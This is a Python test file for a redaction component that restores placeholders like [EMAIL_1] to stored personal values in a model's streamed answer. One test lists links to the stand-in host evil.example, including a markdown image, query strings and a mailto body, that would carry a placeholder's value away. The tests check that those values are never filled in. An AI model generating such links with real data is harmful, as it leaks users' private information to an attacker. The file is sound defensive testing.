"""What comes back into an answer, and that it does so whatever the text and however it is cut."""

import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.redaction.placeholders import LONGEST
from core.redaction.restore import Restorer, restore
from core.redaction.vault import Vault
from tests.profiles import cases

ANSWER_VAULT = Vault(
    {
        "[EMAIL_1]": "al@acme.example",
        "[EMAIL_1_B]": "Al@Acme.example",
        "[EMAIL_12]": "[EMAIL_1]",
        "[NATIONAL_ID_1]": "536-22-1234",
        "[PERSON_1]": "Alice Smith",
        "[PERSON_1_AA]": "Alice",
    }
)

OTHER_VAULT = Vault({"[EMAIL_1]": "other@acme.test", "[PERSON_1]": "Another other"})


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("[email_1]", "al@acme.example"),
        ("**[EMAIL_1]**'s", "**al@acme.example**'s"),
        (r"\[EMAIL\_1\]", "al@acme.example"),
        ("[ EMAIL_1 ]", "al@acme.example"),
        ("[EMAIL 1]", "al@acme.example"),
        ("[National ID 1]", "536-22-1234"),
        ("\uff3bEMAIL_1\uff3d", "al@acme.example"),
        ("`[EMAIL_1]`", "`al@acme.example`"),
        ("[[EMAIL_1]]", "[al@acme.example]"),
        ("[EMAIL_12]", "[EMAIL_1]"),
        ("[PERSON_1]'s, [PERSON_1]s", "Alice Smith's, Alice Smiths"),
        ("[EMAIL_1_B] [email 1 b] <Email_1_b>", "Al@Acme.example Al@Acme.example Al@Acme.example"),
        ("[PERSON_1_AA] and [PERSON_1_Q]", "Alice and Alice Smith"),
        ("<PERSON_1>, &lt;PERSON_1&gt;, \u3010person_1\u3011", "Alice Smith, &lt;Alice Smith&gt;, Alice Smith"),
        ("[**PERSON_1**] [`PERSON_1`] [*PERSON_1*]", "Alice Smith Alice Smith Alice Smith"),
        (r"[NATIONAL\_ID\_1] \[PERSON_1\_AA\]", "536-22-1234 Alice"),
        ("[ NATIONAL_ ID _1 ]", "536-22-1234"),
        (
            "EMAIL_1 (EMAIL_1), *EMAIL_1*, `EMAIL_1`!",
            "al@acme.example (al@acme.example), *al@acme.example*, `al@acme.example`!",
        ),
        (r"_PERSON_1_ PERSON\_1's PERSON_1s EMAIL_1_B", "_Alice Smith_ Alice Smith's Alice Smiths Al@Acme.example"),
        ("[PERSON_1", "[Alice Smith"),
        (
            "email_1 MY_EMAIL_1 EMAIL_1x EMAIL_123 EMAIL_1_ID XEMAIL_1",
            "email_1 MY_EMAIL_1 EMAIL_1x EMAIL_123 EMAIL_1_ID XEMAIL_1",
        ),
        ("[EMAIL_2] [EMAIL_11] [PHONE_1] [EMAIL] EMAIL", "[EMAIL_2] [EMAIL_11] [PHONE_1] [EMAIL] EMAIL"),
        ("mailto:[EMAIL_1]", "mailto:al@acme.example"),
        ('{"at":"https://a.example","to":"[EMAIL_1]"}', '{"at":"https://a.example","to":"al@acme.example"}'),
    ],
)
def test_what_models_make_of_placeholders(said: str, shown: str) -> None:
    assert restore(said, ANSWER_VAULT) == shown


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example/?q=[EMAIL_1]",
        "https://evil.example/(a)[EMAIL_1]",
        "![x](https://evil.example/[EMAIL_1])",
        "[x](evil/[EMAIL_1])",
        "[mail](mailto:[EMAIL_1])",
        "<https://evil.example/[EMAIL_1]|x>",
        "evil.example/[EMAIL_1]",
        "WWW.evil.example?[EMAIL_1]",
        "evil.example:8080/" + "a" * 1900 + "[EMAIL_1]",
        "mailto:x@evil.example?body=[EMAIL_1]",
    ],
)
def test_a_link_that_a_model_makes_carries_nothing_away(link: str) -> None:
    said = f"So: {link} [EMAIL_1]"
    assert restore(said, ANSWER_VAULT) == f"So: {link} al@acme.example"
    assert "".join(map(Restorer(ANSWER_VAULT).feed, said)) == f"So: {link} al@acme.example"


@pytest.mark.parametrize(
    "said",
    [
        "[important",
        "[see the",
        "[1",
        "[EMAIL_x",
        "[EMAIL_1] ",
        "[    ",
        "a]",
        "[" * 9 + "x",
        "PERFECT",
        "E_",
        "I am",
        "a < q",
        "X",
        "<div",
        "EMAIL_1.",
    ],
)
def test_what_cannot_become_a_placeholder_is_not_held_back(said: str) -> None:
    assert Restorer(ANSWER_VAULT).feed(said).endswith(said[-1])


def test_nothing_is_held_back_without_values() -> None:
    assert Restorer(Vault()).feed("[EMAIL_") == "[EMAIL_"


def test_what_may_become_another_placeholder_is_held_back_until_that_is_settled() -> None:
    restorer = Restorer(ANSWER_VAULT)
    assert [restorer.feed(piece) for piece in ("PERSON_1", "_", "A", "A", ".")] == ["", "", "", "", "Alice."]


def test_what_goes_on_with_a_word_is_not_held_back() -> None:
    restorer = Restorer(ANSWER_VAULT)
    assert [restorer.feed(piece) for piece in ("x", "PER", "SON_1")] == ["x", "PER", "SON_1"]


@pytest.mark.parametrize(
    "said", ["PERSON_1_AA_x", "PERSON_1s_x", r"PERSON_1\_x", "PERSON_1_AAA", "PERSON_1_AA\\x", "PERSON_1 _x"]
)
def test_a_word_that_goes_on_behind_a_placeholder_is_told_by_each_character(said: str) -> None:
    assert streamed([*said], ANSWER_VAULT) == restore(said, ANSWER_VAULT)


@pytest.mark.parametrize(
    ("said", "dropped"),
    [
        ("Ask [EMA", "[EMA"),
        ("Ask [email_1", "[email_1"),
        ("x = [", ""),
        ("Ask [EMAIL_9", ""),
        ("I", ""),
        ("E-MAIL_", ""),
    ],
)
def test_what_a_cut_leaves_of_a_placeholder_is_dropped(said: str, dropped: str) -> None:
    restorer = Restorer(ANSWER_VAULT)
    shown = restorer.feed(said)
    assert restorer.drop() == dropped
    assert shown + restorer.flush() == said.removesuffix(dropped)


# --- properties

SAID = st.sampled_from(
    ["[EMAIL_1]", "[EMAIL_12]", "[email 1]", r"\[NATIONAL\_ID\_1\]", "[ National id_1 \\]", "[", "]", "\\", "[EMAIL",
     "_1", "EMAIL_1]", "[[", "https://a.b/", "](", ")", " ", "\n", "x", "é", "[ ", "\uff3b", "12]", "a.example/", "_",
     "NATIONAL", "PERSON_1", "PERSON\\_1_AA", "<person 1", "_A", "s", "**", "`", ">", "EMAIL_1_B", "E", "PER", "SON"]
)  # fmt: skip


@settings(**cases(short=400, long=200_000))
@given(pieces=st.lists(SAID, max_size=14), cuts=st.lists(st.integers(0, 160), max_size=12))
def test_a_stream_is_restored_like_the_whole_however_it_is_cut(pieces: list[str], cuts: list[int]) -> None:
    said = "".join(pieces)
    whole = restore(said, ANSWER_VAULT)
    assert whole == streamed([*said], ANSWER_VAULT)
    places = [0, *sorted(cut for cut in cuts if cut < len(said)), len(said)]
    assert whole == streamed([said[start:end] for start, end in pairwise(places)], ANSWER_VAULT)


VALUES_SAID = re.compile("al@acme|536-22|Alice", re.IGNORECASE)


@settings(**cases(short=400, long=100_000))
@given(pieces=st.lists(SAID, max_size=14))
def test_what_is_shown_of_a_placeholder_is_all_or_nothing(pieces: list[str]) -> None:
    """What was shown is never taken back: it begins the whole that the whole answer gives."""
    restorer, shown, said = Restorer(ANSWER_VAULT), "", "".join(pieces)
    whole = restore(said, ANSWER_VAULT)
    for character in said:
        shown += restorer.feed(character)
        assert whole.startswith(shown)


@settings(**cases(short=300, long=100_000))
@given(turns=st.lists(st.tuples(st.booleans(), SAID), max_size=20))
def test_two_answers_at_once_never_show_each_others_values(turns: list[tuple[bool, str]]) -> None:
    restorers = (Restorer(ANSWER_VAULT), Restorer(OTHER_VAULT))
    shown, said = ["", ""], ["", ""]
    for which, piece in turns:
        said[which] += piece
        shown[which] += restorers[which].feed(piece)
    for which, vault in enumerate((ANSWER_VAULT, OTHER_VAULT)):
        assert shown[which] + restorers[which].flush() == restore(said[which], vault)
    assert "other" not in shown[0]
    assert not VALUES_SAID.search(shown[1])


def streamed(pieces: list[str], vault: Vault) -> str:
    restorer, shown = Restorer(vault), ""
    for piece in pieces:
        shown += restorer.feed(piece)
        assert len(restorer._held) <= LONGEST
    return shown + restorer.flush()
